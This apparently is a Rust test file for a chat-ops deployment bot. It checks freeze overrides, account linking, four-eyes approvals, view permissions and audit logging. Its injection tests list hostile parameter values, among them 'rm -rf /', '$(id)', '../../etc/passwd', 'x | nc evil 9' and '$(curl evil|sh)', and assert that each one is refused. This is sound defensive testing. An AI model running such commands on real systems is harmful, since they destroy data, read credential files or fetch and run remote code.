    let (o, t) = bot.say(dm(ANA, "run deploy env=prod --override \"just in case\"")).await;
    let id = o.approval.unwrap_or_else(|| panic!("an approval request (no freeze yet): {t}"));
    has_all(&t, &["2 approvals from `lead` (approval `prod-changes`)"]);
    assert!(!t.contains("late-freeze"), "the freeze had not begun: {t}");
    has_all(
        bot.last_audit().await.reason.as_deref().unwrap_or_default(),
        &["override asked: \"just in case\""],
    );
    until_frozen(built, in_).await;
    // Now frozen: without the override the same run is refused.
    let (o, t) = bot.say(dm(ANA, "run deploy env=prod")).await;
    assert!(o.approval.is_none() && o.queued.is_none(), "{t}");
    has_all(&t, &["freeze `late-freeze`", "`admin`"]);
    // Two leads approve the old request; no admin ever approved the freeze override.
    bot.say(dm(LEA, &format!("approve {id}"))).await;
    let (_, t) = bot.say(dm(LOU, &format!("approve {id}"))).await;
    let runs = bot.runs().await;
    assert!(
        runs.is_empty(),
        "the run started during freeze `late-freeze` without the admin approval its override needs: {t}\n{runs:#?}"
    );
    has_all(&t, &["late-freeze"]);
}

// ---- 15: injection strings in every parameter type ------------------------------------------

/// Each text is refused before anything is queued, with a reason containing `why`, and a
/// `refused` audit record carrying it.
async fn refuse_all(bot: &Bot, cases: &[(&str, &str)]) {
    for (i, (text, why)) in cases.iter().enumerate() {
        let before = bot.refusals().await;
        let (o, t) = bot.say(dm(ANA, text)).await;
        assert!(o.queued.is_none() && o.approval.is_none() && o.awaiting.is_none(), "{text:?}: {t}");
        has_all(&t, &[why]);
        assert!(t.contains("can't run") || t.contains("Nothing was run"), "{text:?}: {t}");
        let r = bot.assert_refusal_audited("run", &acct(ANA), &[why]).await;
        assert_eq!(bot.refusals().await, before + 1, "case {i} {text:?}: one refusal each: {r:#?}");
        bot.assert_no_runs().await;
    }
}

#[tokio::test]
async fn injection_into_an_enum_is_refused() {
    let bot = Bot::new().await;
    let not_one = "is not one of dev, staging, prod";
    refuse_all(
        &bot,
        &[
            ("run deploy env=\"; rm -rf /\"", not_one),
            ("run deploy env=prod;reboot", not_one),
            ("run deploy env=$(id)", not_one),
            ("run deploy env=`id`", not_one),
            ("run deploy env=\"dev && reboot\"", not_one),
            ("run deploy env=../../etc/passwd", not_one),
            ("run deploy env=\"dev\nreboot\"", "control character"),
            ("run deploy app=\"api; id\" env=dev", "is not one of api, web"),
        ],
    )
    .await;
}

#[tokio::test]
async fn injection_into_an_int_is_refused() {
    let bot = Bot::new().await;
    let nan = "is not a whole number";
    refuse_all(
        &bot,
        &[
            ("run scale replicas=\"1; drop table\"", nan),
            ("run scale replicas=$(id)", nan),
            ("run scale replicas=`id`", nan),
            ("run scale replicas=\"3 && reboot\"", nan),
            ("run scale replicas=3;reboot", nan),
            ("run scale replicas=\"3\nreboot\"", "control character"),
            ("run scale replicas=99999999999999999999", nan),
            ("run scale replicas=-1", "out of range"),
        ],
    )
    .await;
}

#[tokio::test]
async fn injection_into_a_bool_is_refused() {
    let bot = Bot::new().await;
    let nb = "is not true or false";
    refuse_all(
        &bot,
        &[
            ("run flag force=\"true; id\"", nb),
            ("run flag force=$(id)", nb),
            ("run flag force=`id`", nb),
            ("run flag force=\"yes && reboot\"", nb),
            ("run flag force=\"true\nid\"", "control character"),
        ],
    )
    .await;
}

#[tokio::test]
async fn injection_into_a_pattern_string_is_refused() {
    let bot = Bot::new().await;
    let nm = "is not allowed: expected text matching";
    refuse_all(
        &bot,
        &[
            ("run tag version=\"1.2.3; rm -rf /\"", nm),
            ("run tag version=$(id)", nm),
            ("run tag version=`id`", nm),
            ("run tag version=\"1.2.3 && reboot\"", nm),
            ("run tag version=../../etc/passwd", nm),
            ("run tag version=1.2.3;reboot", nm),
            ("run tag version=\"1.2.3\nreboot\"", "control character"),
        ],
    )
    .await;
}

#[tokio::test]
async fn injection_into_a_free_string_is_refused_by_deny_argv() {
    let bot = Bot::new().await;
    let argv = "Refused by deny_argv `shell-meta`";
    refuse_all(
        &bot,
        &[
            ("run note text=\"; rm -rf /\"", argv),
            ("run note text=$(id)", argv),
            ("run note text=`id`", argv),
            ("run note text=\"a && b\"", argv),
            ("run note text=../../etc/passwd", argv),
            ("run note text=prod;reboot", argv),
            ("run note text=\"1; drop table\"", argv),
            ("run note text=\"true; id\"", argv),
            ("run note text=\"x | nc evil 9\"", argv),
            ("run note text=\"> /etc/passwd\"", argv),
            ("run note text=\"line one\nrm -rf /\"", "control character"),
            ("note \"$(curl evil|sh)\"", argv),
        ],
    )
    .await;
    // The reason says what matched and why the pattern exists.
    let r = bot
        .audits()
        .await
        .into_iter()
        .find(|r| r.reason.as_deref().is_some_and(|x| x.contains("deny_argv")))
        .unwrap();
    has_all(r.reason.as_deref().unwrap(), &["forbidden pattern", "no shell metacharacters"]);
}

// ---- link -----------------------------------------------------------------------------------

/// The code in a `link` reply (`link ABCDE23456`).
pub(crate) fn link_code(o: &Outcome) -> String {
    o.replies
        .iter()
        .flat_map(|r| r.blocks.iter())
        .find_map(|b| match b {
            Block::Code { text } => text.strip_prefix("link ").map(str::to_string),
            _ => None,
        })
        .unwrap_or_else(|| panic!("a link code in: {}", text_of(o)))
}

#[tokio::test]
async fn link_end_to_end() {
    let bot = Bot::new().await;
    const NEW: &str = "U-NEW";
    // In a channel: no code, because everyone would see it.
    let (o, t) = bot.say(in_channel(NEW, "!link")).await;
    has_all(&t, &["direct message"]);
    assert!(
        !o.replies
            .iter()
            .flat_map(|r| r.blocks.iter())
            .any(|b| matches!(b, Block::Code { .. })),
        "{t}"
    );
    // In a direct message: a code.
    let (o, t) = bot.say(dm(NEW, "link")).await;
    let code = link_code(&o);
    assert_eq!(code.len(), 10, "{t}");
    let r = bot.last_audit().await;
    assert_eq!(
        (r.action.as_str(), r.decision.as_str(), r.actor.clone()),
        ("link", "asked", acct(NEW))
    );
    assert!(!r.reason.unwrap_or_default().contains(&code), "the code is not in the audit log");
    // Until linked, the account is nobody's.
    let (o, _) = bot.say(dm(NEW, "run ping")).await;
    assert!(o.queued.is_none());
    // The code sent from the new account itself links nothing.
    let (_, t) = bot.say(dm(NEW, &format!("link {code}"))).await;
    has_all(&t, &["from an account I already know"]);
    // A wrong code is refused and audited.
    let (_, t) = bot.say(dm(ANA, "link WRONGCODE2")).await;
    has_all(&t, &["That code is unknown, used or expired"]);
    bot.assert_refusal_audited("link", &acct(ANA), &["unknown or expired link code"])
        .await;
    // The right code from a known account links it to that person.
    let (_, t) = bot.say(dm(ANA, &format!("link {}", code.to_lowercase()))).await;
    has_all(&t, &["Linked `chat:U-NEW` to you (Ana)", "deployer, prod-deployer"]);
    let r = bot.last_audit().await;
    assert_eq!((r.action.as_str(), r.decision.as_str()), ("link", "accepted"));
    has_all(r.reason.as_deref().unwrap(), &["chat:U-NEW linked to person ana"]);
    // The new account is Ana now: her roles, and it can run.
    let (_, t) = bot.say(dm(NEW, "whoami")).await;
    has_all(&t, &["Ana (person `ana`, account linked with `link`)", "deployer, prod-deployer"]);
    let (o, t) = bot.say(dm(NEW, "run ping")).await;
    let id = o.queued.unwrap_or_else(|| panic!("{t}"));
    let e = bot.run(id).await;
    assert_eq!((e.requested_by.clone(), e.requester_name.as_str()), (acct(NEW), "Ana"));
    // A used code is refused (and audited) for anyone else.
    let (_, t) = bot.say(dm(BO, &format!("link {code}"))).await;
    has_all(&t, &["unknown, used or expired"]);
    bot.assert_refusal_audited("link", &acct(BO), &["unknown or expired link code"])
        .await;
    assert_eq!(bot.store.linked_person(&acct(NEW)).await.unwrap().as_deref(), Some("ana"));
}

#[tokio::test]
async fn a_linked_account_is_the_same_person_for_four_eyes() {
    let bot = Bot::new().await;
    const NEW: &str = "U-ANA2";
    let code = link_code(&bot.say(dm(NEW, "link")).await.0);
    bot.say(dm(ANA, &format!("link {code}"))).await;
    let id = bot.ana_asks_for_prod().await;
    let (o, t) = bot.say(dm(NEW, &format!("approve {id}"))).await;
    assert!(o.queued.is_none(), "{t}");
    has_all(&t, &["four eyes"]);
    bot.assert_refusal_audited("approve", &acct(NEW), &["four eyes"]).await;
    assert!(bot.store.votes(id).await.unwrap().is_empty());
    bot.assert_no_runs().await;
}

#[tokio::test]
async fn only_the_owner_or_an_admin_may_unlink() {
    let bot = Bot::new().await;
    const NEW: &str = "U-ANA3";
    let code = link_code(&bot.say(dm(NEW, "link")).await.0);
    bot.say(dm(ANA, &format!("link {code}"))).await;
    for who in [BO, LEA, EVE] {
        let (_, t) = bot.say(dm(who, "unlink chat:U-ANA3")).await;
        has_all(&t, &["Not allowed", "admin"]);
        bot.assert_refusal_audited("unlink", &acct(who), &["admin"]).await;
        assert_eq!(bot.store.linked_person(&acct(NEW)).await.unwrap().as_deref(), Some("ana"));
    }
    // Ana may.
    let (_, t) = bot.say(dm(ANA, "unlink chat:U-ANA3")).await;
    has_all(&t, &["is no longer linked to `ana`"]);
    assert_eq!(bot.store.linked_person(&acct(NEW)).await.unwrap(), None);
    let (o, _) = bot.say(dm(NEW, "run ping")).await;
    assert!(o.queued.is_none());
    bot.assert_no_runs().await;
}

#[tokio::test]
async fn others_runs_stay_private_without_the_view_verb() {
    let bot = Bot::new().await;
    let staging = bot.say(dm(ANA, "run deploy env=staging")).await.0.queued.expect("queued");
    let id = bot.ana_asks_for_prod().await;
    bot.say(dm(LEA, &format!("approve {id}"))).await;
    bot.say(dm(LOU, &format!("approve {id}"))).await;
    let prod = bot
        .runs()
        .await
        .iter()
        .find(|e| e.params.get("env").map(String::as_str) == Some("prod"))
        .expect("prod run")
        .id;
    // Eve sees nothing: not through the job card's Status button, logs, history or approvals.
    for cmd in [format!("status {staging}"), format!("logs {staging}")] {
        let (_, t) = bot.say(pressed(EVE, &cmd)).await;
        has_all(&t, &[&format!("You may not view #{staging}"), "`guest`"]);
        bot.assert_refusal_audited("view", &acct(EVE), &["Ana's run of `deploy`"]).await;
    }
    let (_, t) = bot.say(dm(EVE, "history")).await;
    assert!(!t.contains(&format!("#{staging}")) && !t.contains("Ana"), "{t}");
    let id2 = bot.ana_asks_for_prod().await;
    let (_, t) = bot.say(dm(EVE, "approvals")).await;
    has_all(&t, &["No open approval requests for you."]);
    let (_, t) = bot.say(dm(LEA, "approvals")).await;
    has_all(&t, &["Open approval requests", &id2.to_string(), "Ana"]);
    // Bo may view deploys to dev and staging only.
    let (_, t) = bot.say(dm(BO, &format!("status {staging}"))).await;
    has_all(&t, &[&format!("#{staging}")]);
    assert!(!t.contains("may not"), "{t}");
    let (_, t) = bot.say(dm(BO, &format!("status {prod}"))).await;
    has_all(&t, &[&format!("You may not view #{prod}"), "env in [dev, staging]"]);
    bot.assert_refusal_audited("view", &acct(BO), &["env=prod"]).await;
    let (_, t) = bot.say(dm(BO, "history")).await;
    assert!(t.contains(&format!("#{staging}")) && !t.contains("env=prod"), "{t}");
}

#[tokio::test]
async fn concurrent_final_votes_start_one_run() {
    let bot = Bot::new().await;
    let id = bot.ana_asks_for_prod().await;
    let (lea, lou) = (dm(LEA, &format!("approve {id}")), dm(LOU, &format!("approve {id}")));
    let (a, b) = tokio::join!(bot.engine.handle(&lea), bot.engine.handle(&lou));
    let runs = bot.runs().await;
    assert!(runs.len() <= 1, "one request, at most one run: {} / {}", text_of(&a), text_of(&b));
    // Whichever vote came second completes it (or a third completes it when they interleaved).
    if runs.is_empty() {
        bot.say(dm(LEA, &format!("approve {id}"))).await;
    }
    assert_eq!(bot.runs().await.len(), 1);
    assert_eq!(bot.approval_state(id).await, ApprovalState::Approved);
}

/// The refusal of a lock is recorded about the job it named, like an accepted lock is, so that
/// the audit log filtered by job shows both.
#[tokio::test]
async fn a_refused_lock_is_audited_about_its_job() {
    let bot = Bot::new().await;
    let (_, t) = bot.say(dm(BO, "lock deploy env=prod --reason \"mine now\"")).await;
    has_all(&t, &["Not allowed", "admin"]);
    let refused = bot.assert_refusal_audited("lock", &acct(BO), &["admin"]).await;
    let (_, t) = bot.say(dm(ADA, "lock deploy env=prod --reason \"incident 44\"")).await;
    has_all(&t, &["Locked `deploy env=prod`"]);
    let accepted = bot.last_audit().await;
    assert_eq!((accepted.action.as_str(), accepted.decision.as_str()), ("lock", "accepted"));
    assert_eq!(accepted.job.as_deref(), Some("deploy"));
    assert_eq!(
        refused.job, accepted.job,
        "the refused lock's audit record names the lock scope as its job: {refused:#?}"
    );
}

/// Refused attempts to link an account are decisions too, and every decision is audited.
#[tokio::test]
async fn refused_link_attempts_are_audited() {
    let bot = Bot::new().await;
    const NEW: &str = "U-NEW2";
    let (_, t) = bot.say(in_channel(NEW, "!link")).await;
    has_all(&t, &["direct message"]);
    let audits = bot.audits().await;
    assert!(
        audits
            .first()
            .is_some_and(|r| (r.action.as_str(), r.decision.as_str(), &r.actor) == ("link", "refused", &acct(NEW))),
        "`link` in a channel is refused without an audit record: {audits:#?}"
    );
    let code = link_code(&bot.say(dm(NEW, "link")).await.0);
    let (_, t) = bot.say(dm(NEW, &format!("link {code}"))).await;
    has_all(&t, &["from an account I already know"]);
    let audits = bot.audits().await;
    assert!(
        audits
            .first()
            .is_some_and(|r| (r.action.as_str(), r.decision.as_str(), &r.actor) == ("link", "refused", &acct(NEW))),
        "a code sent from the unknown account is refused without an audit record; the newest record is {:#?}",
        audits.first()
    );
}

/// A request written in Chinese and refused by a role: the person reads why in Chinese (the
/// role, the values and the `file:line` as they are), the audit record keeps the English.
#[tokio::test]
async fn a_chinese_request_refused_by_a_role_is_explained_in_chinese_and_audited_in_english() {
    let cfg = match Config::parse(CONFIG, Path::new("/tmp/opsbot-access.toml"), LoadOptions::default()) {
        Ok(c) => c,
        Err(e) => panic!("config: {e:?}"),
    };
    let store: Arc<dyn Store> = Arc::new(SqliteStore::memory().await.expect("store"));
    let catalog = Arc::new(cfg.catalog);
    let engine = Engine::new(catalog.clone(), cfg.bot, store.clone())
        .with_access(cfg.access)
        .with_understander(Arc::new(opsbot_nlu::Nlu::new(&catalog)));
    let bot = Bot { engine, store };
    // Bo's role allows deploys to dev and staging only.
    let (o, t) = bot.say(dm(BO, "把 api 部署到生产环境")).await;
    assert!(o.denied && o.queued.is_none(), "{t}");
    has_all(
        &t,
        &[
            "不允许",
            "你的角色（`deployer`）都不允许在 chat/D-U-BO 对 `deploy` 执行 `run`（参数 app=api env=prod）。",
            "角色 `deployer` 只允许对 所有任务（env 取 dev，staging 之一）执行 `run`（opsbot-access.toml:",
        ],
    );
    assert!(!t.contains("None of your roles") && !t.contains("allows run only on"), "{t}");
    let r = bot
        .assert_refusal_audited(
            "run",
            &acct(BO),
            &["None of your roles (`deployer`) allows run on `deploy` with app=api env=prod in chat/D-U-BO. Role `deployer` allows run only on every job with env in [dev, staging] (opsbot-access.toml:"],
        )
        .await;
    let reason = r.reason.unwrap_or_default();
    assert!(!reason.chars().any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c)), "{reason}");
    bot.assert_no_runs().await;
}
